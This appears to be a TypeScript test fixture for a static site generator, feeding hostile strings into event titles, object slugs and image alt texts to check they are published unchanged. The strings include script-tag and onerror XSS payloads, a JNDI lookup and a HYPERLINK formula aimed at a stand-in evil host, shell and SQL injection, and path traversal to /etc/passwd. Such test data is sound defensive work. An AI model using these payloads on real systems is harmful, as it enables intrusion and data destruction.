import { edit, event, guide, labels, object, sidecar, textOf } from '../../support/edit-site.ts'
import { beside, type HostileRow, published } from '../row.ts'

const titles = [
  ['a script', '"<script>alert(1)</script>"', '<script>alert(1)</script>'],
  ['an image that fails', "'<img src=x onerror=alert(1)>'", '<img src=x onerror=alert(1)>'],
  [
    'the end of a script, where JSON is in a page',
    "'</script><script>alert(1)'",
    '</script><script>alert(1)',
  ],
  ['a line end that was escaped', '"a\\nb"', 'a\nb'],
  ['a tab', '"a\\tb"', 'a\tb'],
  ['line ends of JavaScript', '"a\\u2028b\\u2029c"', 'a\u2028b\u2029c'],
  ['constructor', 'constructor', 'constructor'],
  ['__proto__', '__proto__', '__proto__'],
  ['undefined', 'undefined', 'undefined'],
  ['null', 'null', 'null'],
  ['a tilde', '~', '~'],
  ['true', 'true', 'true'],
  ['NO, as in Norway', 'NO', 'NO'],
  ['a number with zeros', '007', '007'],
  ['a number in sixties', '12:30:45', '12:30:45'],
  ['a number in sixteens', '0x1F', '0x1F'],
  ['a number with an exponent', '1e3', '1e3'],
  ['a version', '1.10', '1.10'],
  ['a day', '2027-05-01', '2027-05-01'],
  ['infinity', '.inf', '.inf'],
  ['no number', '.nan', '.nan'],
  ['a merge sign', '<<', '<<'],
  ['a template of JavaScript', `'\${process.env.HOME}'`, `\${process.env.HOME}`],
  ['a template of Python', "'{{7*7}}'", '{{7*7}}'],
  ['a template of Ruby', "'#{7*7}'", '#{7*7}'],
  ['a template of Java', `'\${jndi:ldap://evil.example/a}'`, `\${jndi:ldap://evil.example/a}`],
  ['a placeholder of the header rules', "'{base_url}'", '{base_url}'],
  ['a placeholder of addresses', "'{slug}{language}'", '{slug}{language}'],
  ['a pattern of replacing', '"$& $1 $` $\'"', "$& $1 $` $'"],
  ['a format of C', "'%s%n%x'", '%s%n%x'],
  ['a formula', '\'=HYPERLINK("https://evil.example")\'', '=HYPERLINK("https://evil.example")'],
  ['a command', "'$(touch pwned)`touch pwned`;touch pwned'", '$(touch pwned)`touch pwned`;touch pwned'],
  ['a query of a database', "'''; DROP TABLE events;--'", "'; DROP TABLE events;--"],
  ['a way out of a folder', '../../etc/passwd', '../../etc/passwd'],
  ['a way out of a folder on Windows', "'..\\..\\win.ini'", '..\\..\\win.ini'],
  ['a backslash at its end', "'a\\'", 'a\\'],
  ['quotes of all kinds', "'\"a\" ''b'' `c` „d“'", '"a" \'b\' `c` „d“'],
  ['text that is written backwards by a sign', '"a\\u202Egnp.exe"', 'a\u202egnp.exe'],
  ['blanks that cannot be seen', '"a\\u200B\\u2060b"', 'a\u200b\u2060b'],
  ['a heap of accents', `"Z${'\\u0351'.repeat(40)}"`, `Z${'\u0351'.repeat(40)}`],
  ['entities', "'&lt;b&gt; &#x3C;'", '&lt;b&gt; &#x3C;'],
  ['Markdown', "'**a** [b](javascript:alert(1))'", '**a** [b](javascript:alert(1))'],
  ['front matter of its own', '"---\\njs"', '---\njs'],
] as const

/** Texts that other programs stumble over, published as they were typed. */
export const textRows: readonly HostileRow[] = [
  {
    name: 'titles that other programs stumble over',
    files: Object.assign(
      {},
      ...titles.map(([, typed], index) => beside(index, edit(event, `title: ${typed}`))),
    ),
    problems: [],
    gives: { singulareventdates: [{ title: 'The fair' }, ...titles.map(([, , title]) => ({ title }))] },
  },
  published(
    'an object and a label are called constructor',
    {
      [object]: null,
      'content/objects/constructor.md': textOf(object).replace('label: museum', 'label: constructor'),
      ...edit(event, 'place: constructor'),
      [labels]: textOf(labels).replace('museum:', 'constructor:'),
    },
    { objects: { label: 'Museum', slug: 'constructor' } },
  ),
  published(
    'an author and a guide have names of what every object has',
    {
      'content/authors/ann.yaml': null,
      'content/authors/valueof.yaml': 'name: Ann\nimage: quay\n',
      [guide]: null,
      'content/guides/tostring.md': textOf(guide).replace('author: ann', 'author: valueof'),
    },
    { guides: { byline: { author: { name: 'Ann' } }, href: 'https://www.example.org/en/guides/tostring/' } },
  ),
  published(
    'the slug of an object climbs out of its folder, in its address only',
    edit(object, 'slug: ../../admin?x#y'),
    {
      objects: {
        slug: '../../admin?x#y',
        href: 'https://www.example.org/en/places/..%2F..%2Fadmin%3Fx%23y/',
      },
    },
  ),
  published(
    'alt texts hold quotes and tags',
    edit(sidecar, ['A quay in the sun', `'"><script>alert(1)</script>'`]),
    {
      objects: {
        image: {
          alt: '"><script>alert(1)</script>',
          renditions: { small: { alt: '"><script>alert(1)</script>' } },
        },
      },
    },
  ),
]
